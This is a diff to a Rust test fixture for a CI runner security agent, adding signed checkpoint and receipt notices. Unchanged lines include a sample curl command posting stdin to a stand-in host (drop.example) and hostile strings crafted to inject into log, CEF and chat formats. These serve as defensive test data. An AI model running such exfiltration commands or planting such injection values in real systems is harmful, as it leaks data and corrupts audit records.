@@ -9,7 +9,8 @@ use runner_agent::event::{
     ProcessKey, Program,
 };
 use runner_agent::identity::{Environment, JobIdentity, identify};
-use runner_agent::notice::{Account, AgentState, Content, JobEnded, JobStarted, Loss, Notice};
+use runner_agent::ledger::{Checkpoint, Position, Signature};
+use runner_agent::notice::{Account, AgentState, Content, JobEnded, JobStarted, Loss, Notice, ReceiptIssued};
 use runner_agent::policy::{AddressClass, Mode, Protocol, Ruling, Severity, Trust, Verdict};
 use runner_agent::sink::wire::Encoder;
 use runner_agent::sink::wire::format::About;
@@ -228,6 +229,7 @@ pub fn table() -> Vec<(&'static str, Notice)> {
                 policy_files: vec!["policies/pr-validation.yml".to_owned()],
                 mode: Mode::Audit,
                 cgroup: "/sys/fs/cgroup/runner-agent/4d1b7c0a".to_owned(),
+                key: Some(KEY.to_owned()),
             }),
         ),
         ("exec", exec(&["curl", "-d", "@-", "https://drop.example/in"], "/usr/bin/curl")),
@@ -270,11 +272,36 @@ pub fn table() -> Vec<(&'static str, Notice)> {
         ("exit-by-signal", event(Activity::Exit { status: 9 })),
         ("agent-tampered", agent("tampered")),
         ("job-ended", Content::JobEnded(ended())),
+        ("checkpoint", Content::Checkpoint(Some(checkpoint()))),
+        (
+            "receipt",
+            Content::Receipt(ReceiptIssued {
+                sha256: "5".repeat(64),
+                log_sha256: "7".repeat(64),
+                lines: 23,
+                head: "ab".repeat(32),
+                key: KEY.to_owned(),
+                mode: Mode::Audit,
+                seen: 40,
+                lost: 12,
+                findings: 1,
+            }),
+        ),
         ("hostile-exec", exec(&hostile, "/tmp/a b]\n\"=|\\x")),
         ("hostile-file", file("/tmp/=|]\"\\\r\n<x>&.key")),
         ("hostile-finding", finding("<!here> & `x`\nCEF:0|a|b|\u{2028}", "a\"]b=c\\\nd")),
     ];
     contents.into_iter().enumerate().map(|(index, (name, content))| (name, notice(index as u64 + 1, content))).collect()
+}
+
+/// A public key (RFC 8032, section 7.1, test 2).
+const KEY: &str = "PUAXw+hDiVqStwqnTRt+vJyYLM8uxJaMwM1V8Sr0Zgw=";
+
+/// Its signature is of nothing in particular: forms hand it on and don't look.
+fn checkpoint() -> Checkpoint {
+    let signature = Signature::parse(&format!("{}==", "A".repeat(86))).expect("64 bytes in base64");
+    let position = Position { job: "4d1b7c0a".into(), lines: 22, head: "ab".repeat(32), at: String::new() };
+    Checkpoint { position, key: "21fe31dfa154a261".into(), signature }
 }
 
 fn agent(state: &'static str) -> Content {
